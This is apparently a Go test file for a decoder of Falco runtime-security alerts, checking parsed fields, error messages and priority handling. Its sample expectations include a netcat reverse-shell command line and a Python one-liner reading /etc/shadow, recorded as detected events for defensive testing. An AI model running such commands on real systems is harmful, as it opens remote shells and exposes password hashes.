package falco_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"kir.dev/kir/falco"
)

// readSample returns the alert in testdata/falco/name.
func readSample(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("../testdata/falco", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func decodeSample(t testing.TB, name string) *falco.Alert {
	t.Helper()
	a, err := falco.Decode(readSample(t, name))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return a
}

func mustTime(s string) time.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t
}

// TestDecodeSamples decodes every sample alert in testdata/falco and
// checks what it became: the header fields exactly, and the output fields
// that matter for routing (present with their text, or absent).
func TestDecodeSamples(t *testing.T) {
	t.Parallel()
	type want struct {
		alert   falco.Alert // without Output and Fields
		nFields int
		fields  map[string]string
		absent  []string
	}
	tests := map[string]want{
		"terminal-shell.json": {
			alert: falco.Alert{
				Rule: "Terminal shell in container", Priority: falco.PriorityNotice, Source: "syscall", Hostname: "worker-2",
				Time: mustTime("2026-11-25T20:45:12.123456789Z"),
				Tags: []string{"T1059", "container", "maturity_stable", "mitre_execution", "shell"},
			},
			nFields: 17,
			fields: map[string]string{
				"k8s.ns.name": "shop", "k8s.pod.name": "web-7c9d8f6b5-x2kqp", "container.id": "4f1a6d2c9b3e",
				"evt.time": "1795639512123456789", "proc.tty": "34816", "user.loginuid": "-1", "user.uid": "0",
			},
		},
		"sidekick-drop-execute.json": {
			alert: falco.Alert{
				UUID: "6f1c2b9e-8d4a-4c1e-9a57-2f0c3d8e4b71",
				Rule: "Drop and execute new binary in container", Priority: falco.PriorityCritical, Source: "syscall", Hostname: "worker-1",
				Time: mustTime("2026-11-25T21:02:41.502337114Z"),
				Tags: []string{"PCI_DSS_11.5.1", "TA0003", "container", "maturity_stable", "mitre_persistence", "process"},
			},
			nFields: 25,
			fields: map[string]string{
				"k8s.ns.name": "prod", "k8s.pod.name": "checkout-5d7f9c8b4-q7wlm",
				"container.image.repository": "registry.acme.io/payments/checkout", "proc.aname[2]": "containerd-shim",
				"proc.exe_ino.ctime": "1795640560981224310",
			},
		},
		"old-falco-read-sensitive.json": {
			alert: falco.Alert{
				Rule: "Read sensitive file untrusted", Priority: falco.PriorityWarning,
				Time: mustTime("2026-11-26T03:17:54.884410029Z"),
			},
			nFields: 9, // proc.aname[2..4] were <NA>
			fields:  map[string]string{"fd.name": "/etc/shadow", "proc.cmdline": "python3 -c open('/etc/shadow').read()"},
			absent:  []string{"k8s.ns.name", "k8s.pod.name", "proc.aname[2]", "proc.aname[3]", "proc.aname[4]"},
		},
		"memfd-host-na.json": {
			alert: falco.Alert{
				Rule: "Fileless execution via memfd_create", Priority: falco.PriorityCritical, Source: "syscall", Hostname: "worker-3",
				Time: mustTime("2026-11-25T22:10:33.01774592Z"),
				Tags: []string{"T1620", "container", "host", "maturity_stable", "mitre_defense_evasion", "process"},
			},
			nFields: 17,
			fields:  map[string]string{"container.id": "host", "proc.exepath": "memfd:3"},
			absent:  []string{"k8s.ns.name", "k8s.pod.name", "container.image.repository", "container.image.tag", "container.start_ts"},
		},
		"memfd-container.json": {
			alert: falco.Alert{
				Rule: "Fileless execution via memfd_create", Priority: falco.PriorityCritical, Source: "syscall", Hostname: "worker-1",
				Time: mustTime("2026-11-25T21:40:18.339120455Z"),
				Tags: []string{"T1620", "container", "host", "maturity_stable", "mitre_defense_evasion", "process"},
			},
			nFields: 22,
			fields:  map[string]string{"k8s.ns.name": "prod", "k8s.pod.name": "storefront-84f6d9c7b-2hvxk"},
		},
		"netcat-typed-fields.json": {
			alert: falco.Alert{
				Rule: "Netcat Remote Code Execution in Container", Priority: falco.PriorityWarning, Source: "syscall", Hostname: "worker-2",
				Time: mustTime("2026-11-25T21:03:05.77120935Z"),
				Tags: []string{"T1059", "container", "maturity_stable", "mitre_execution", "network", "process"},
			},
			nFields: 20,
			fields: map[string]string{
				"container.id":               "382716450912", // a number, kept as sent
				"container.image.repository": "ghcr.io/acme/shop-api",
				"container.image.tag":        "3.1.0",
				"container.name":             "api",
				"container.privileged":       "false",
				"evt.time":                   "1795640585771209350", // beyond float64's exact integers
				"evt.type":                   "execve",
				"k8s.ns.name":                "shop",
				"k8s.pod.name":               "api-6b9f7d4c8-mz5tn",
				"proc.cmdline":               "nc -e /bin/sh 203.0.113.7 4444",
				"proc.exepath":               "/usr/bin/nc.openbsd",
				"proc.is_exe_upper_layer":    "false",
				"proc.name":                  "nc",
				"proc.pid":                   "48213",
				"proc.pname":                 "sh",
				"proc.tty":                   "0",
				"proc.vpid":                  "57",
				"user.loginuid":              "-1",
				"user.name":                  "nobody",
				"user.uid":                   "65534",
			},
			absent: []string{"evt.arg.flags", "fd.name"}, // null
		},
		"k8s-audit-exec.json": {
			alert: falco.Alert{
				Rule: "Attach/Exec Pod", Priority: falco.PriorityNotice, Source: "k8s_audit", Hostname: "falco-k8saudit-0",
				Time: mustTime("2026-11-25T20:51:07Z"),
				Tags: []string{"k8s"},
			},
			nFields: 7,
			fields:  map[string]string{"ka.target.namespace": "shop", "ka.target.name": "web-7c9d8f6b5-x2kqp", "ka.uri.param[command]": "bash"},
			absent:  []string{"k8s.ns.name", "k8s.pod.name"},
		},
	}
	files, _ := filepath.Glob("../testdata/falco/*.json")
	for _, f := range files {
		if _, ok := tests[filepath.Base(f)]; !ok {
			t.Errorf("sample %s has no expectations in TestDecodeSamples", filepath.Base(f))
		}
	}
	for name, w := range tests {
		t.Run(strings.TrimSuffix(name, ".json"), func(t *testing.T) {
			t.Parallel()
			a := decodeSample(t, name)
			if !strings.Contains(a.Output, w.alert.Priority.String()+" ") {
				t.Errorf("Output %q does not carry the priority", a.Output)
			}
			got := *a
			got.Output, got.Fields = "", nil
			if diff := cmp.Diff(w.alert, got); diff != "" {
				t.Errorf("alert (-want +got):\n%s", diff)
			}
			if len(a.Fields) != w.nFields {
				t.Errorf("%d fields, want %d: %v", len(a.Fields), w.nFields, a.Fields)
			}
			for k, v := range w.fields {
				if got, ok := a.Field(k); !ok || got != v {
					t.Errorf("Field(%q) = %q, %v; want %q", k, got, ok, v)
				}
			}
			for _, k := range w.absent {
				if v, ok := a.Field(k); ok {
					t.Errorf("Field(%q) = %q, want it absent", k, v)
				}
			}
		})
	}
}

// TestDecodeValues covers the variations real senders produce, one key
// at a time.
func TestDecodeValues(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		json   string
		want   falco.Alert
		fields map[string]string
	}{
		{
			name:   "minimal: only rule and priority",
			json:   `{"rule":"R","priority":"Debug"}`,
			want:   falco.Alert{Rule: "R", Priority: falco.PriorityDebug},
			fields: map[string]string{},
		},
		{
			name:   "nulls for optional keys",
			json:   `{"rule":"R","priority":"Error","uuid":null,"output":null,"time":null,"source":null,"tags":null,"hostname":null,"output_fields":null}`,
			want:   falco.Alert{Rule: "R", Priority: falco.PriorityError},
			fields: map[string]string{},
		},
		{
			name:   "unknown keys ignored",
			json:   `{"rule":"R","priority":"alert","output_fields":{},"extra":{"x":[1,2]},"Rule":5,"customfields":"x"}`,
			want:   falco.Alert{Rule: "R", Priority: falco.PriorityAlert},
			fields: map[string]string{},
		},
		{
			name: "priority spellings",
			json: `{"rule":"R","priority":"INFO"}`,
			want: falco.Alert{Rule: "R", Priority: falco.PriorityInformational}, fields: map[string]string{},
		},
		{
			name:   "time without fractions and with an offset",
			json:   `{"rule":"R","priority":"warn","time":"2026-11-25T21:45:12+01:00"}`,
			want:   falco.Alert{Rule: "R", Priority: falco.PriorityWarning, Time: mustTime("2026-11-25T20:45:12Z").In(time.FixedZone("", 3600))},
			fields: map[string]string{},
		},
		{
			name: "empty time is no time",
			json: `{"rule":"R","priority":"Notice","time":""}`,
			want: falco.Alert{Rule: "R", Priority: falco.PriorityNotice}, fields: map[string]string{},
		},
		{
			name: "empty tags",
			json: `{"rule":"R","priority":"Notice","tags":[]}`,
			want: falco.Alert{Rule: "R", Priority: falco.PriorityNotice, Tags: []string{}}, fields: map[string]string{},
		},
		{
			name: "field values of every type",
			json: `{"rule":"R","priority":"Emergency","output_fields":{
				"s":"text", "empty":"", "na":"<NA>", "na-lower":"<na>", "null":null,
				"int":48213, "neg":-1, "big":18446744073709551615, "bigger":123456789012345678901234567890,
				"float":1.50, "exp":1e3, "t":true, "f":false,
				"obj":{ "b" : [1, 2], "a":"<x>" }, "list":[ "a", null ], "esc":"tab\there \u00e9"}}`,
			want: falco.Alert{Rule: "R", Priority: falco.PriorityEmergency},
			fields: map[string]string{
				"s": "text", "empty": "", "na-lower": "<na>",
				"int": "48213", "neg": "-1", "big": "18446744073709551615", "bigger": "123456789012345678901234567890",
				"float": "1.50", "exp": "1e3", "t": "true", "f": "false",
				"obj": `{"b":[1,2],"a":"<x>"}`, "list": `["a",null]`, "esc": "tab\there é",
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			a, err := falco.Decode([]byte(tt.json))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.fields, a.Fields); diff != "" {
				t.Errorf("fields (-want +got):\n%s", diff)
			}
			a.Fields = nil
			if diff := cmp.Diff(tt.want, *a); diff != "" {
				t.Errorf("alert (-want +got):\n%s", diff)
			}
		})
	}
}

// TestDecodeErrors checks that bad input is refused with a one-line
// message naming what is wrong.
func TestDecodeErrors(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("A", 500)
	tests := []struct {
		name, json, want string
	}{
		{"empty", ``, `empty alert: want a Falco alert as a JSON object`},
		{"blank", " \n\t", `empty alert: want a Falco alert as a JSON object`},
		{"not JSON", `rule=Terminal shell`, `alert is not valid JSON: invalid character 'r' looking for beginning of value (at byte 1)`},
		{"truncated", `{"rule":"R","priority":"Notice"`, `alert is not valid JSON: unexpected end of JSON input (at byte 31)`},
		{"trailing data", `{"rule":"R","priority":"Notice"} x`, `alert is not valid JSON: invalid character 'x' after top-level value (at byte 34)`},
		{"array", `[{"rule":"R","priority":"Notice"}]`, `alert must be a JSON object, not a list`},
		{"string", `"alert"`, `alert must be a JSON object, not a string`},
		{"null", `null`, `alert must be a JSON object, not null`},
		{"no rule", `{"priority":"Notice"}`, `rule is missing`},
		{"null rule", `{"rule":null,"priority":"Notice"}`, `rule is missing`},
		{"empty rule", `{"rule":"","priority":"Notice"}`, `rule is empty`},
		{"rule as number", `{"rule":42,"priority":"Notice"}`, `rule must be a string, not a number`},
		{"no priority", `{"rule":"R"}`, `priority is missing`},
		{"priority as number", `{"rule":"R","priority":5}`, `priority must be a string, not a number`},
		{"priority Bogus", `{"rule":"R","priority":"Bogus"}`, `priority "Bogus" is not a Falco priority: want Emergency, Alert, Critical, Error, Warning, Notice, Informational or Debug`},
		{"tags as string", `{"rule":"R","priority":"Notice","tags":"container"}`, `tags must be a list of strings, not a string`},
		{"tags with a number", `{"rule":"R","priority":"Notice","tags":["a",2]}`, `tags must be a list of strings: item 2 is a number`},
		{"output_fields as list", `{"rule":"R","priority":"Notice","output_fields":["k8s.ns.name"]}`, `output_fields must be an object, not a list`},
		{"time yesterday", `{"rule":"R","priority":"Notice","time":"yesterday"}`, `time "yesterday" is not an RFC 3339 time such as 2026-11-25T20:45:12.123456789Z`},
		{"time as number", `{"rule":"R","priority":"Notice","time":1795639512}`, `time must be a string, not a number`},
		{"output as object", `{"rule":"R","priority":"Notice","output":{}}`, `output must be a string, not an object`},
		{"hostname as bool", `{"rule":"R","priority":"Notice","hostname":true}`, `hostname must be a string, not a boolean`},
		{"uuid and source wrong", `{"rule":"R","priority":"Notice","uuid":1,"source":[]}`, `uuid must be a string, not a number; source must be a string, not a list`},
		{"several problems", `{"priority":"Bogus","time":"soon"}`, `rule is missing; priority "Bogus" is not a Falco priority: want Emergency, Alert, Critical, Error, Warning, Notice, Informational or Debug; time "soon" is not an RFC 3339 time such as 2026-11-25T20:45:12.123456789Z`},
		{"long priority is cut", `{"rule":"R","priority":"` + long + `"}`, `priority "` + strings.Repeat("A", 64) + `"… is not a Falco priority: want Emergency, Alert, Critical, Error, Warning, Notice, Informational or Debug`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			a, err := falco.Decode([]byte(tt.json))
			if err == nil {
				t.Fatalf("want an error, got %+v", a)
			}
			if a != nil {
				t.Errorf("want no alert with the error, got %+v", a)
			}
			if got := err.Error(); got != tt.want {
				t.Errorf("error:\n got %s\nwant %s", got, tt.want)
			}
			if strings.Contains(err.Error(), "\n") {
				t.Errorf("error is not one line")
			}
		})
	}
}

// TestDecodeTooLarge refuses an alert over MaxAlertSize.
func TestDecodeTooLarge(t *testing.T) {
	t.Parallel()
	b := []byte(`{"rule":"R","priority":"Notice","output":"` + strings.Repeat("x", falco.MaxAlertSize) + `"}`)
	_, err := falco.Decode(b)
	if want := fmt.Sprintf("alert is %d bytes: at most 1048576", len(b)); err == nil || err.Error() != want {
		t.Errorf("got %v", err)
	}
}

// TestParsePriority checks the spellings accepted and the order.
func TestParsePriority(t *testing.T) {
	t.Parallel()
	tests := map[string]falco.Priority{
		"Emergency": falco.PriorityEmergency, "ALERT": falco.PriorityAlert, "critical": falco.PriorityCritical,
		"Error": falco.PriorityError, "Warning": falco.PriorityWarning, "warn": falco.PriorityWarning,
		"Notice": falco.PriorityNotice, "Informational": falco.PriorityInformational, "Info": falco.PriorityInformational,
		"debug": falco.PriorityDebug,
	}
	for s, want := range tests {
		got, err := falco.ParsePriority(s)
		if err != nil || got != want {
			t.Errorf("ParsePriority(%q) = %v, %v; want %v", s, got, err, want)
		}
	}
	for _, s := range []string{"", "Bogus", " Critical", "Crit", "7"} {
		if p, err := falco.ParsePriority(s); err == nil {
			t.Errorf("ParsePriority(%q) = %v, want an error", s, p)
		}
	}
	order := []falco.Priority{
		falco.PriorityDebug, falco.PriorityInformational, falco.PriorityNotice, falco.PriorityWarning,
		falco.PriorityError, falco.PriorityCritical, falco.PriorityAlert, falco.PriorityEmergency,
	}
	var names []string
	for i, p := range order {
		if i > 0 && !(p > order[i-1]) {
			t.Errorf("%v is not above %v", p, order[i-1])
		}
		if !p.Valid() {
			t.Errorf("%v is not valid", p)
		}
		names = append(names, p.String())
	}
	if diff := cmp.Diff([]string{"Debug", "Informational", "Notice", "Warning", "Error", "Critical", "Alert", "Emergency"}, names); diff != "" {
		t.Errorf("names (-want +got):\n%s", diff)
	}
	if falco.Priority(0).Valid() || falco.Priority(9).Valid() {
		t.Errorf("priorities 0 and 9 are valid")
	}
	if s := falco.Priority(0).String(); s != "Priority(0)" {
		t.Errorf("Priority(0).String() = %q", s)
	}
	b, err := json.Marshal(map[string]falco.Priority{"p": falco.PriorityCritical})
	if err != nil || string(b) != `{"p":"Critical"}` {
		t.Errorf("JSON = %s, %v", b, err)
	}
	var back map[string]falco.Priority
	if err := json.Unmarshal([]byte(`{"p":"warn"}`), &back); err != nil || back["p"] != falco.PriorityWarning {
		t.Errorf("from JSON: %v, %v", back, err)
	}
}

// TestVars checks the alert as playbooks see it.
func TestVars(t *testing.T) {
	t.Parallel()
	a := decodeSample(t, "k8s-audit-exec.json")
	got := a.Vars()
	want := map[string]any{
		"rule":     "Attach/Exec Pod",
		"priority": "Notice",
		"time":     "2026-11-25T20:51:07Z",
		"uuid":     "",
		"source":   "k8s_audit",
		"hostname": "falco-k8saudit-0",
		"output":   a.Output,
		"tags":     []any{"k8s"},
		"fields": map[string]any{
			"evt.time": "1795639867000000000", "ka.target.name": "web-7c9d8f6b5-x2kqp", "ka.target.namespace": "shop",
			"ka.target.resource": "pods", "ka.target.subresource": "exec", "ka.uri.param[command]": "bash", "ka.user.name": "alice@acme.io",
		},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Vars (-want +got):\n%s", diff)
	}
	got["fields"].(map[string]any)["ka.user.name"] = "mallory"
	got["tags"].([]any)[0] = "changed"
	if a.Fields["ka.user.name"] != "alice@acme.io" || a.Tags[0] != "k8s" {
		t.Errorf("Vars shares its maps or slices with the alert")
	}

	old := decodeSample(t, "old-falco-read-sensitive.json")
	v := old.Vars()
	if v["tags"] == nil || len(v["tags"].([]any)) != 0 || v["source"] != "" {
		t.Errorf("an alert without tags: tags %#v, source %#v; want an empty list and \"\"", v["tags"], v["source"])
	}
	if _, err := json.Marshal(v); err != nil {
		t.Errorf("encoding Vars: %v", err)
	}
	var zero falco.Alert
	if v := zero.Vars(); v["time"] != "" || v["priority"] != "" {
		t.Errorf("zero alert: time %q, priority %q", v["time"], v["priority"])
	}
}

// BenchmarkDecode decodes a real Falcosidekick alert: kir serve decodes
// every alert of a storm.
func BenchmarkDecode(b *testing.B) {
	raw, err := os.ReadFile("../testdata/falco/sidekick-drop-execute.json")
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(raw)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := falco.Decode(raw); err != nil {
			b.Fatal(err)
		}
	}
}
